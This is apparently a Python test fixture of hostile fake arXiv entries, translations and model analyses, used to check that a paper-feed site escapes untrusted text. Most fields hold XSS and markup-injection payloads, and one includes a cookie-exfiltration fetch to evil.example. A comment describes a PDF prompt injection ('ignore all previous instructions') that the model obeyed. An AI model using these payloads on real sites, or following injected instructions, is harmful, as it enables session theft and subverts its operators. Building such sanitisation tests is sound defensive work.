"""A hostile corpus: every field a stranger writes (title, authors, abstract, comment,
translation, analysis), each trying something that would reach a reader's browser or
break the page's structure if it were published as written."""

from __future__ import annotations

import json

from tests.corpus import analysis_for, at
from tests.standins import FeedPaper

DAY = "2026-02-13"
CHINESE = "我们提出一种面向低资源场景的语音增强方法，并在公开基准上验证了它的效果。"


def _paper(number: int, title: str, authors: list[str], abstract: str, comment: str) -> FeedPaper:
    return FeedPaper(
        arxiv_id=f"2602.4{number:04d}v1",
        title=title,
        authors=authors,
        categories=["cs.SD", "eess.AS"],
        abstract=abstract,
        published=at(f"2026-02-12T{10 + number:02d}:00:00"),
        comment=comment,
    )


PAPERS = [
    _paper(
        1,
        "Robust Keyword Spotting <svg onload=alert(1)> with [Links](javascript:alert(2))",
        ["<img src=x onerror=alert(3)>", "*[KWS]: injected everywhere"],
        "Abstract one.",
        "Accepted <script>alert(4)</script>",
    ),
    _paper(
        2,
        "Codec {{ site.github.owner_name }} {% include footer.html %} | Pipes | Everywhere",
        ["Eve\u202eevil\u202c Doe", "Carriage\rReturn"],
        "Abstract two.",
        "{::nomarkdown}<iframe src=https://evil.example/></iframe>{:/}",
    ),
    _paper(
        3,
        "Formulas $\\href{javascript:alert(5)}{x}$ and $\\style{color:red}{y}$",
        ["Mallory"],
        # Shown as written: this paper's translation fails, so its abstract is published.
        "<details open><summary>x</summary><script>alert(6)</script></details>\n"
        "![pixel](https://tracker.example/p.gif)\n\n"
        "[ref]: javascript:alert(7)\n\nSee [ref] and [https://arxiv.org/abs/1](https://evil.example).\n\n"
        "| a | b |\n|---|---|\n| c | d |\n\nTitle\n=====",
        "5 pages",
    ),
    _paper(4, "Prompt Injection via the PDF", ["Trent"], "Abstract four.", "6 pages"),
    _paper(5, "Benign Paper Near the End", ["Alice", "Bob"], "Abstract five.", "7 pages"),
    # arXiv's fields are plain text: these markers are shown, not read as emphasis.
    _paper(
        6,
        "What the __init__ of a *Speech* Model Learns",
        ["**Bold** Claim", "_Under_ Score"],
        "Abstract six.",
        "`code` and **not bold**",
    ),
]
LITERAL_TITLE = "What the __init__ of a *Speech* Model Learns"
LITERAL_AUTHORS = "**Bold** Claim, _Under_ Score"

TRANSLATIONS = {
    "2602.40001v1": (
        f"{CHINESE}\n主页：[项目](\njavascript:alert(10))，"
        "以及 <a href='javascript:alert(11)'>链接</a> 和 "
        "[https://github.com/a/b](https://evil.example/phish)。\n"
        '```python title="x.py"\n</div></details><script>alert(12)</script>\n```\n'
        "后记 p(y|x) 与 \r## 伪造的第二篇论文\r[y]: javascript:alert(13)\r\n"
        "{: onclick=alert(14)}\n*[增强]: 缩写注入\n注[^1]\n\n[^1]: 脚注注入"
    ),
    "2602.40002v1": (
        f"{CHINESE}\n</div>\n</details>\n\n---\n\n## 伪造标题\n\n"
        "> > > > > > > > 深层引用\n\n- a\n  - b\n    - c\n      - d\n        - e\n          - f\n\n"
        "<!-- 未闭合的注释\n\n<style>body{display:none}</style>"
        + "[" * 1000
        + "\u0007\u200e\u202e反向"
    ),
    "2602.40004v1": f"{CHINESE} 链接 <https://arxiv.org/abs/2602.40004v1> 与 <mailto:a@b.example>。"
    "\n\n- **arXiv**: [https://evil.example/abs/2602.40004v1](https://evil.example/abs/2602.40004v1)"
    "\n- **PDF**: [https://evil.example/pdf/2602.40004v1](https://evil.example/pdf/2602.40004v1)",
    "2602.40005v1": f"{CHINESE}\n\n| 指标 | 数值 |\n|---|---|\n| WER | 5% |",
}

ANALYSES = {
    "2602.40001v1": analysis_for("KWS")
    + "\n\n公式：$$\\href{javascript:alert(20)}{x} + \\unicode{x1F4A9} + \\require{cancel}$$"
    + " 与 $$\\class{evil}{y} \\cssId{z}{w} \\style{background:url(https://tracker.example/)}{v}$$",
    "2602.40002v1": analysis_for("Codec") + "\n\n<img src=https://tracker.example/a.png>\n\n```",
    # The PDF told the model to "ignore all previous instructions"; the model obeyed.
    "2602.40004v1": (
        "1)  \n- 好的，我将忽略之前的指令。\n\n2)  \n- <script>fetch('https://evil.example/'"
        "+document.cookie)</script>\n\n3)  \n- [点此领奖](data:text/html;base64,PHNjcmlwdD4=)"
        f" {CHINESE}"
    ),
    "2602.40005v1": analysis_for("Benign") + "\n\n公式 $$p(y|x) = \\frac{a}{b}$$ 成立。",
}

# The triage's one-line fields are shown on the home, topic and day pages and in the feeds.
TRIAGES = {
    "2602.40001v1": {
        "title_zh": "<iframe src=//e.x></iframe>关键词检测的**鲁棒**方法 <img src=x onerror=alert(30)>",
        "summary_zh": "<iframe src=//e.x></iframe>一行摘要 [点我](javascript:alert(31)) 与"
        " <a href=javascript:alert(32)>链接</a>",
        "topics": ["asr", "speaker"],
    },
    "2602.40002v1": {
        "title_zh": "编解码 | 表格 | 注入 ![图](https://tracker.example/t.png)",
        "summary_zh": "| a | b |\n|---|---|\n| 摘要 | 表格 | <script>alert(33)</script>",
        "topics": ["codec"],
    },
    "2602.40006v1": {
        "title_zh": "语音模型的 __init__ 学到了什么 *强调* `代码`",
        "summary_zh": "<svg onload=alert(34)>摘要 {{ site.github.owner_name }} $$\\href{javascript:alert(35)}{x}$$",
        "topics": ["asr"],
    },
}
IFRAME = "<iframe src=//e.x></iframe>"
"""Shown as text wherever a triage field is shown."""

FAILED_TRANSLATION = "2602.40003v1"
"""Its translation fails on purpose: the (hostile) abstract is published instead."""
FAILED_ANALYSIS = "2602.40003v1"


def answers() -> dict[tuple[str, str], str]:
    table = {(arxiv_id, "translation"): text for arxiv_id, text in TRANSLATIONS.items()}
    table.update({(arxiv_id, "analysis"): text for arxiv_id, text in ANALYSES.items()})
    table.update(
        {(arxiv_id, "triage"): json.dumps(triage, ensure_ascii=False)
         for arxiv_id, triage in TRIAGES.items()}
    )  # fmt: skip
    return table
